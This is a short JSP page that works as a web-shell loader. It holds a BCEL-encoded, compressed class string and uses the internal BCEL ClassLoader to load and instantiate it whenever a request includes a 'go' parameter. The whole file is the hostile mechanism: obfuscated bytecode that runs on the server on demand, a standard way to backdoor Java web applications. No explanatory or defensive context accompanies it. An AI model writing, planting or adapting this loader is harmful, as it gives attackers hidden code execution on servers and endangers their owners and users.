<%@ page import="com.sun.org.apache.bcel.internal.util.ClassLoader" %>
<%
String cls = "$$BCEL$$$l$8b$I$A$A$A$A$A$A$AeQ$cbN$c2$40$U$3d$D$85$96Z$a0$f8$7e$3f$c1$85$c0$c2$b8$91$f8$88$R$a3$ab$82$_$c1$c4$b0$e8$94$b1$f4$b5$7c$83$f8$c5$7c$a1$ff$J$h$k$a2$c6$N$X$f9$3d$9e$cc$dc$3b$e7$9c$7b$ee$b9$c0$e1$9e$b3$c0$b2$c4$n$N$y$ea$c8$b1$K$dc$b8$Q$d5$c7$b7$b5$b7$7e$D$e8$c5$a3$o$A$A";
if (request.getParameter("go") != null) {
    new ClassLoader().loadClass(cls).newInstance();
}
%>
